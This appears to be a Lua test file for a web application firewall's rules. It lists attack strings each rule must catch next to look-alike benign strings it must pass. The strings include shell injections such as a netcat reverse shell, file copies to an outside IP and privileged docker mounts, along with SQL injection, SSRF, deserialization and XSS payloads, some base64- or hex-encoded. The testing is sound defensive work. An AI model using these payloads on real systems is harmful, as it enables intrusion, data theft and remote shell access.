local rule_checks = require "rule_checks"

-- The twenty-eighth to thirtieth blind sets, each a vocabulary (tests/edge_security/family_gen_blind_
-- {twentyeighth,twentyninth,thirtieth}.py), the thirty-first to thirty-fourth (shell evasions, files and
-- fetches, encodings, placements) and the thirty-fifth to thirty-seventh (a rule author's tests from titles): the words and shapes they found uncovered, and the prose beside them,
-- value by value (our own spellings, not the sets').
describe("edge.waf.rules twenty-eighth to thirtieth blind sets", function()
    local caught_by, clean

    setup(function()
        caught_by, clean = rule_checks.new(assert)
    end)

    it("RCE: a backtick glued to the value before it, tools whose action is the argument, accounts taken", function()
        caught_by(132105, { "10.0.0.1`ping -c 2 198.51.100.4`", "a.pdf`rsync -a /srv/ x@198.51.100.4:/`",
            "1.1.1.1 && dig @198.51.100.4 x.example", "10.0.0.1;ip a", "x|ip -4 route show",
            "a\nsystemctl disable firewalld", "x && docker run --privileged -v /:/h alpine",
            "x;kubectl exec -it pod -- sh", "x; openssl s_client -connect 198.51.100.4:443", "q;su - root",
            "1|passwd admin", "bob || mount" })
        caught_by(132100, { "10.0.0.1`nc 198.51.100.4 9001 -e sh`", "a`c\\url 198.51.100.4/x`" })
        clean({ "Servers; IP address is 10.0.0.7", "Cluster notes; docker is slow on macOS", "Go, Rust; service mesh",
            "see `ping -c 4 host` in the runbook", "Ben & Jerry's; mount Everest next", "Team A; su casa es tu casa",
            "html`<p>${name}</p>`", "sql`select 1`" })
    end)

    it("RCE: wildcard directories, IFS set, PowerShell's env: drive, .NET sockets, Bypass before parameters", function()
        caught_by(132160, { "x || /???/tftp -g 198.51.100.4", "|/b??/ksh -c id", "a$(/???/lsof -i)" })
        caught_by(132110, { "x;IFS=_;cmd=cat_/etc/hosts;$cmd", "a|IFS=,;`cat<<<id`" })
        caught_by(132190, { "gci env:", "; dir hklm:\\software", "$c=New-Object System.Net.Sockets.TCPClient('h',1)",
            "& Set-ExecutionPolicy Bypass -Scope Process" })
        clean({ "what/???/ok", "Q3 (???) and Q4", "IFS is the field separator", "env: production",
            "New-Object is how we build the rows" })
    end)

    it("PHP, Java, FreeMarker and NoSQL words the vocabulary sets named", function()
        caught_by(133100, { "implode('', array('sys','tem'))('id')", "strrev(trim(' metsys'))('id')" })
        caught_by(133110, { "unlink('../.htaccess')", "ini_get('open_basedir')",
            "posix_getpwuid(0)", "posix_uname()", "set_time_limit(0);ignore_user_abort(true);" })
        caught_by(144100, { "new ScriptEngineManager().getEngineByName('js').eval(x)",
            "new InvokerTransformer(\"exec\", null, null)", "Runtime.class.getMethod(\"getRuntime\")" })
        caught_by(144110, { "#session.admin", "#parameters['x']", "x=#application.secret" })
        caught_by(134120, { "${.data_model}", "${.globals?keys}" })
        caught_by(142290, { "$lookup", "$graphLookup" })
        clean({ "https://php.net/manual/en/session.configuration.php#session.cookie-lifetime", "set_time_limit(30) in php.ini",
            "join the team (we are hiring)", "#sessions channel", "${name}", "$lookupTable" })
    end)

    it("SQL: result clauses after a closed string, IS NULL tautologies, rarer stacked statements", function()
        caught_by(142310, { "' GROUP BY 1 WITH ROLLUP-- -", "1 LIMIT 1 OFFSET 2#", "' FETCH NEXT 1 ROWS ONLY--",
            "') INTO @x, @y--", "x' ORDER BY 3--+", "1 AND ROWNUM<=3" })
        caught_by(142250, { "1 OR 'a' IS NOT NULL", "2 AND 'x' IS NULL" })
        caught_by(142170, { "1; RENAME TABLE users TO x--", "'; ATTACH DATABASE '/tmp/a' AS a;--",
            "1; LOAD DATA INFILE '/etc/hosts' INTO TABLE t", "1;SET @a:=1" })
        caught_by(142230, { "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'", "grant select on users to public" })
        clean({ "Sort \"by date\" order by newest; thanks", "\"Quarterly report\" group by region -- see attached",
            "Team A; grant all access to Bob", "The rownum column starts at 1", "page 2 limit 10; thanks",
            "waitfor delay", "let's meet; having lunch at 12",
            "The board agreed; select members will attend" })
        caught_by(142170, { "1; select 1", "x;select @@version", "a; select pass from users--" })
        caught_by(142160, { "1; WAITFOR DELAY '0:0:5'--" })
    end)

    it("RFI and XSS: an image passed a command; a link to CSS's @import page is no style", function()
        caught_by(131110, { "http://x.example/a.gif?cmd=id", "https://x.example/u/1.png?x=1&exec=ls" })
        clean({ "https://explainshell.com/explain?cmd=ls+-la", "https://developer.mozilla.org/en-US/docs/Web/CSS/@import" })
        caught_by(141160, { "}@import url(//x.example/a.css);", "@import 'x.css'" })
    end)

    it("SSRF: Kubernetes services, names without a dot, a second userinfo; app config paths; .example files", function()
        caught_by(131200, { "http://grafana.monitoring.svc:3000/api", "http://vault/v1/secret", "https://kubelet:10250/pods",
            "http://a@b@127.0.0.1/", "http://db.default.svc.cluster.local:5432/",
            "http://localtest.me/admin", "http://lvh.me:8080/", "http://10.0.0.1.nip.io/" })
        caught_by(131210, { "http://metadata.platformequinix.com/metadata" })
        caught_by(130160, { "/opt/wildfly/standalone/configuration/mgmt-users.properties", "/opt/tomcat/conf/tomcat-users.xml",
            "/usr/local/app/etc/keystore.jks" })
        clean({ "https://nip.io/", "slack://open?team=T0001", "myapp://callback?code=1", "https://example.com/",
            "https://raw.githubusercontent.com/acme/dotfiles/main/.npmrc.example", "spiffe://cluster.local/ns/a/sa/b",
            "https://github.com/acme/app/blob/main/src/config/app.xml", "see the sample .env.example" })
    end)

    it("Python and Ruby: compile() to eval, a socket connected by hand, an evaluator fed the request", function()
        caught_by(132210, { "exec(compile(src, 'x', 'exec'))", "s=socket.socket();s.connect(('198.51.100.4',9))",
            "socket.socket(socket.AF_INET).connect(('h', 1))", "instance_eval(params[:q])", "eval(req.body.code)",
            "setTimeout(req.query.cb)" })
        clean({ "we eval params in the form", "request.params is the hash", "compile the docs", "req.body is parsed JSON" })
    end)

    it("the thirty-first to thirty-fourth: persistence tools, variables glued to a path, a bare subshell", function()
        caught_by(132100, { "; launchctl load -w ~/Library/LaunchAgents/x.plist", "|setenforce 0", "; setcap cap_setuid+ep /bin/x",
            "; scp u@198.51.100.4:/x /tmp/x" })
        caught_by(132110, { "; LD_PRELOAD=/tmp/x.so id", "${X%${X#?}}" })
        caught_by(132140, { "& net user administrator S3cret!" })
        caught_by(132180, { "; cat$u/etc$u/hosts", "(whoami)" })
        clean({ "LD_PRELOAD is how the profiler hooks malloc", "(ID) number please", "(id, name)", "authorized_keys.example",
            "net user count went up" })
    end)

    it("base64 of text is read decoded too (twice encoded as well); tokens and encoded JSON stay clean", function()
        caught_by(142170, { "MSc7IERST1AgVEFCTEUgdXNlcnM7IC0t" })
        caught_by(132100, { "JCh3aG9hbWkp", "T3lCMWJtRnRaU0F0WVE9PQ==" })
        caught_by(141100, { "PHN2Zy9vbmxvYWQ9YWxlcnQoMSk-" })
        clean({ "eyJpZCI6MTIzLCJhZnRlciI6IjIwMjQtMDEtMDEifQ", "dGhpcyBpcyBmaW5lIHRleHQ=", "internationalization",
            "dGVzdA", "aGVsbG8gd29ybGQgZnJvbSB0aGUgdGVhbQ==" })
    end)

    it("the rule-title sets, SQL: charsets, MERGE, WHILE, version comments, JSON operators, probes alone", function()
        caught_by(142170, { "1; SET NAMES 'sjis'--", "2;set character set latin1", "1; while 2>1 begin select 2 end",
            "';merge into t using s on 1=1 when matched then delete;--" })
        caught_by(142260, { "1 RLIKE (SELECT 2)", "x' regexp (select 1)" })
        caught_by(142180, { "/*!12345 1*/", "1 /*!50000union*/ all" })
        caught_by(142190, { "1.e(user())", "1 and '{}'::jsonb @> '{}'", "name`where`1=1", "where pw = 0x61646d696e" })
        caught_by(142160, { "1 ALTER DATABASE x SET SINGLE_USER", "2.2250738585072011e-308" })
        caught_by(142290, { "db.users.find({})", "db.getSiblingDB('admin')", "this.pw.match(/^a/)" })
        caught_by(142320, { "abc'", "9'", "`", "'''", "4#", "7 --", "1--+", "/api/users/xy'" })
        clean({ "O'", "'", "''", "\"\"", "'90s", "'s-Hertogenbosch", "8a7b6c5d-4e3f\"",
            "1/**/union/**/all", "\"$ref\": \"#/components/schemas/User\"", "alter the database settings later" })
    end)

    it("the rule-title sets: PHP names alone, variable calls, JSFuck, DOM calls, markup from //host, DoS, Perl, Ruby, Java", function()
        caught_by(133150, { "passthru", "phpinfo()", "posix_getuid", "create_function" })
        caught_by(133110, { "$http_response_header", "$f /*x*/ ('id')", "$o->$m($a)", "curl_exec($c)" })
        caught_by(133120, { "/x/O:4:\"Test\":0:{}" })
        caught_by(141240, { "(![]+[])[+[]]", "[+!+[]]+[!+[]+!+[]]", "$=~[];" })
        caught_by(141140, { "document.body.appendChild(x)", "n.parentNode.removeChild(n)" })
        caught_by(141250, { "<img src=//x.example/a.png>", "<form action='//x.example/p'>" })
        caught_by(135120, { "'x'.repeat(1e10)", "function r(){ r() }", "process.nextTick(function t(){process.nextTick(t)})" })
        caught_by(132170, { "IO::Socket::INET->new('h:1')", "$ENV{'HOME'}", "ObjectSpace.each_object(String)", "class_eval('1')" })
        caught_by(144100, { "m.setAccessible(true)", "new ObjectInputStream(s)", "o.readObject()",
            "k.getDeclaredConstructor().newInstance()", "defineClass(n, b, 0, l)", "groovy.lang.GroovyShell", "ysoserial.payloads.URLDNS" })
        clean({ "system", "theme: system", "![](https://x.example/a.png)",
            "localStorage.getItem('theme') returns null on first load", "function fib(n) { return n < 2 ? n : fib(n-1) + fib(n-2) }" })
    end)

    it("the rule-title sets, shell: alias and history, chmod's modes, bin paths with an argument, cmd.exe's IF and FOR", function()
        caught_by(132280, { "; alias -p", "a=1; alias x='id'", "| unalias -a", "; history -c", "`alias`" })
        caught_by(132110, { "$(!!)", "`!-2`" })
        caught_by(132180, { "; !cat", "chmod +x /tmp/a", "/bin/busybox nc", "/usr/bin/env perl" })
        caught_by(132140, { "& if defined TEMP echo %TEMP%", "if not exist a.txt echo x > a.txt",
            "for /r c:\\ %g in (*.ini) do type %g" })
        caught_by(132160, { "; /*/bin/whoami" })
        caught_by(132230, { "eKztAAVzcgARamF2YS51dGlsLkhhc2hNYXB4BQfawcMWYNEDAAJG" })
        clean({ "alias: Johnny", "history of the project", "color: red; !important", "set the alias later" })
    end)

    it("the second rule-title authors: wrapper slashes, suhosin, JSFuck's undefined, bracket access, onerror=alert", function()
        caught_by(130140, { "php:/\\/filter/resource=x", "file:\\\\/etc/hosts" })
        caught_by(133130, { "suhosin.executor.disable_eval=0" })
        caught_by(141240, { "[]+[][[]]" })
        caught_by(141180, { "frames[1]['alert'](1)", "self[atob('YWxlcnQ=')](2)", "document['cookie']", "onerror=eval;throw'x'" })
        caught_by(133110, { "$a[1]($a[2])" })
        clean({ "window[0] is the first frame", "the document's cookie banner", "[] + []" })
    end)

    it("the second rule-title authors: CALL, DO $$, REPLACE INTO, charset variables, MATCH AGAINST, history forms", function()
        caught_by(142170, { "1; CALL p()--", "1;DO $$BEGIN PERFORM 1; END$$", "1; replace into t values(1)",
            "x'; set character_set_results = gbk--" })
        caught_by(142190, { "_latin1'x'", "match(a) against('b' in boolean mode)", "2 sounds like 2" })
        caught_by(142260, { "1; COPY (select 1) TO PROGRAM 'id'" })
        caught_by(142290, { "'; return true; //" })
        caught_by(131110, { "http://x.example/a.png?/" })
        caught_by(132100, { "; ls /", "| pwd /" })
        caught_by(132110, { "/bin//bash -i", "^id^whoami", "!ls:p" })
        caught_by(132180, { "command cat /etc/hosts", "builtin -p ls /" })
        caught_by(144100, { "System.setSecurityManager(null)", "java.lang.invoke.MethodHandles.lookup()" })
        clean({ "it sounds like 'fun'; call me later", "the command line / terminal", "C^2 and C^3", "1 or 2 people" })
    end)

    it("the third rule-title authors: SET NAMES alone, ALTER ... CHARACTER SET, IS NULL then a comment, REGEXP", function()
        caught_by(142230, { "set names 'sjis'", "SET CHARACTER SET latin1;" })
        caught_by(142160, { "1' ALTER DATABASE d CHARACTER SET x--" })
        caught_by(142310, { "' IS NULL --", "x' is not null#" })
        caught_by(142190, { "1 regexp '^a'", "2 not like 'b%'" })
        caught_by(144120, { "ACED0005" })
        caught_by(141140, { "globalThis.fetch('//x.example')" })
        caught_by(132180, { "; command ls", "| builtin echo x", "&& history" })
        caught_by(142250, { "1 AND `t`.`c`=1" })
        -- a hex literal is read decoded as well, as base64 is: 0x27206f722031 is "' or 1"
        caught_by(142100, { "0x27206f722031" })
        caught_by(141100, { "0x3c7363726970743e616c657274283129" })
        clean({ "set names of the team members", "we like 'this'", "the history of it", "1 like", "ACED0005X",
            "0x41414141", "0xdeadbeefcafe" })
    end)
end)
